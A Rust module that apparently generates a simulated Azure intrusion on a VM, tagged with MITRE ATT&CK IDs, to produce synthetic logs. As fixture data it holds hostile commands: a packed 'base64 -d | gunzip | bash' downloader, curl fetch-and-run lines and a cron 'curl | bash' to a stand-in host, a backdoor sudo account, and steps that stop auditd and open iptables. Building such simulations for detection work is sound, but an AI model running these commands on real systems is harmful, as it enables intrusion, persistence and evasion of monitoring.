//! On web01: reconnaissance, a packed downloader, persistence, an extension.

use super::super::background::grant;
use super::super::cast::{PRODUCTION, WEB, shop};
use super::run;
use crate::case::base64;
use crate::cloud::catalogue as kinds;
use crate::instant::Instant;
use crate::json::{Hand, Json, object};
use crate::plan::{Call, Plan, Way, Work};
use crate::world::Log;
use flate2::{Compression, GzBuilder};
use std::io::Write;

pub(super) fn fill(plan: &mut Plan, by: Call, day: Instant) {
    let recon = Work::new(
        include_str!("../scripts/recon.sh"),
        "root\nuid=0(root) gid=0(root) groups=0(root)\nweb01\nLinux web01 6.5.0-1018-azure #19~22.04.2-Ubuntu SMP x86_64 GNU/Linux\nPRETTY_NAME=\"Ubuntu 22.04.4 LTS\"\nNAME=\"Ubuntu\"\n    inet 127.0.0.1/8 scope host lo\n    inet 10.20.1.4/24 metric 100 brd 10.20.1.255 scope global eth0\nState  Recv-Q Send-Q Local Address:Port Peer Address:Port Process\nLISTEN 0      511          0.0.0.0:80        0.0.0.0:*     users:((\"nginx\",pid=1102,fd=6))\nLISTEN 0      128          0.0.0.0:22        0.0.0.0:*     users:((\"sshd\",pid=812,fd=3))\nroot:0:/bin/bash\nopsadmin:1000:/bin/bash\n/root/.ssh:\ntotal 8\n",
        260,
    )
    .starts(2, "/usr/bin/whoami", &["whoami"])
    .starts(4, "/usr/bin/id", &["id"])
    .starts(6, "/usr/bin/hostname", &["hostname"])
    .starts(9, "/usr/bin/uname", &["uname", "-a"])
    .starts(40, "/usr/bin/ss", &["ss", "-tlnp"]);
    let invoked = plan.invoke(by, WEB, Way::Action, recon, day.at(9, 6, 12));
    if let Some(run) = invoked.and_then(|it| plan.world.runs.get_mut(it.run)) {
        run.stdout_emptied = Some(day.at(11, 5, 31));
    }
    run(
        plan,
        "Reconnaissance on web01",
        &["T1651", "T1033", "T1082", "T1049"],
        invoked,
    );

    let packed = base64(&gzip(include_bytes!("../scripts/stage.sh")));
    let first = Work::new(
        &format!("echo {packed} | base64 -d | gunzip | bash\n"),
        "helper up: 4188\n",
        2_300,
    )
    .starts(3, "/usr/bin/base64", &["base64", "-d"])
    .starts(4, "/usr/bin/gunzip", &["gunzip"])
    .starts(
        30,
        "/usr/bin/curl",
        &[
            "curl",
            "-fsSL",
            "http://203.0.113.200/a/agent-x64",
            "-o",
            "/var/tmp/.systemd-private/dbus-helper",
        ],
    )
    .starts(
        2_200,
        "/var/tmp/.systemd-private/dbus-helper",
        &[
            "/var/tmp/.systemd-private/dbus-helper",
            "--server",
            "203.0.113.200:443",
        ],
    );
    let invoked = plan.invoke(by, WEB, Way::Action, first, day.at(9, 11, 40));
    run(
        plan,
        "A packed downloader fetches and starts a program on web01",
        &["T1651", "T1027", "T1105"],
        invoked,
    );

    let jump = shop(plan, "Microsoft.Compute/virtualMachines/jump01");
    let refused = plan.call(
        by,
        &kinds::RUN_COMMAND,
        PRODUCTION,
        &jump,
        day.at(9, 17, 33),
    );
    plan.refuse(
        refused,
        409,
        "OperationNotAllowed",
        "The operation requires the VM to be running (or set to run).",
    );
    plan.step(
        "A run command on jump01 fails: the machine is deallocated",
        &["T1651"],
        Some(refused),
        None,
    );

    let persist = Work::new(include_str!("../scripts/persist.sh"), "1\n", 420)
        .starts(2, "/usr/bin/mkdir", &["mkdir", "-p", "/root/.ssh"])
        .starts(
            60,
            "/usr/sbin/useradd",
            &["useradd", "-m", "-s", "/bin/bash", "svc-metrics"],
        )
        .starts(
            210,
            "/usr/sbin/usermod",
            &["usermod", "-aG", "sudo", "svc-metrics"],
        );
    let invoked = plan.invoke(by, WEB, Way::Action, persist, day.at(9, 24, 5));
    if let Some(at) = invoked
        .and_then(|it| plan.world.runs.get(it.run))
        .map(|it| it.started)
    {
        for (after, tag, text) in [
            (90, "useradd[4402]", "new group: name=svc-metrics, GID=1001"),
            (
                92,
                "useradd[4402]",
                "new user: name=svc-metrics, UID=1001, GID=1001, home=/home/svc-metrics, shell=/bin/bash, from=none",
            ),
            (240, "usermod[4409]", "add 'svc-metrics' to group 'sudo'"),
            (
                241,
                "usermod[4409]",
                "add 'svc-metrics' to shadow group 'sudo'",
            ),
        ] {
            plan.remark(WEB, Log::Auth, at.plus_ms(after), tag, text);
        }
        let mut next = day.at(9, 30, 1);
        let mut process = 4_500;
        while next < day.at(14, 30, 0) {
            plan.remark(
                WEB,
                Log::System,
                next,
                format!("CRON[{process}]"),
                "(root) CMD (curl -fsSL http://203.0.113.200/a/keepalive.sh | bash)",
            );
            next = next.plus_seconds(600);
            process += 31;
        }
    }
    run(
        plan,
        "Cron job, ssh key and account on web01",
        &["T1651", "T1053.003", "T1098.004", "T1136.001"],
        invoked,
    );

    let object_id = plan.random().guid();
    let refused = grant(
        plan,
        by,
        &object_id,
        "8e3af657-a8ff-443c-a75c-2fe8c4bcb635",
        day.at(9, 28, 44),
    );
    plan.refuse(refused, 403, "AuthorizationFailed", "The client does not have authorization to perform action 'Microsoft.Authorization/roleAssignments/write' over scope or the scope is invalid.");
    plan.step(
        "Granting the Owner role is refused",
        &["T1098.003"],
        Some(refused),
        None,
    );
}

pub(super) fn extension(plan: &mut Plan, by: Call, day: Instant) {
    let file_uri = "http://203.0.113.200/a/hotfix.sh".to_owned();
    let command = "bash hotfix.sh".to_owned();
    let settings = object([
        ("fileUris", Json::List(vec![file_uri.clone().into()])),
        ("commandToExecute", command.clone().into()),
    ]);
    let work = Work::new(
        include_str!("../scripts/hotfix.sh"),
        "",
        1_300,
    )
    .failing(0, "Created symlink /etc/systemd/system/multi-user.target.wants/dbus-helper.service → /etc/systemd/system/dbus-helper.service.\n")
    .starts(4, "/usr/bin/systemctl", &["systemctl", "stop", "auditd"])
    .starts(120, "/usr/sbin/iptables", &["iptables", "-I", "INPUT", "-s", "203.0.113.0/24", "-j", "ACCEPT"]);
    let way = Way::Extension {
        name: "hotfix",
        command,
        file_uri,
    };
    let invoked = plan.invoke(by, WEB, way, work, day.at(10, 12, 9));
    if let Some(invoked) = invoked {
        let body = object([
            ("name", "hotfix".into()),
            (
                "properties",
                object([
                    ("publisher", "Microsoft.Azure.Extensions".into()),
                    ("type", "CustomScript".into()),
                    ("typeHandlerVersion", "2.1".into()),
                    ("autoUpgradeMinorVersion", true.into()),
                    ("settings", settings),
                    ("provisioningState", "Creating".into()),
                ]),
            ),
        ])
        .print(Hand::Compact);
        plan.amend(invoked.operation, |it| it.response_body = Some(body));
        if let Some(at) = plan.world.runs.get(invoked.run).map(|it| it.started) {
            plan.remark(
                WEB,
                Log::System,
                at.plus_ms(900),
                "systemd[1]",
                "Started D-Bus helper.",
            );
        }
    }
    run(
        plan,
        "A custom script extension installs a service on web01",
        &["T1651", "T1543.002", "T1562.001"],
        invoked,
    );
}

/// gzip without a name or a time, so that it depends on its content alone.
fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut packer = GzBuilder::new().write(Vec::new(), Compression::best());
    // Writing to memory does not fail; if it did, the script would be empty and every test of it would say so.
    packer
        .write_all(bytes)
        .and_then(|()| packer.finish())
        .unwrap_or_default()
}
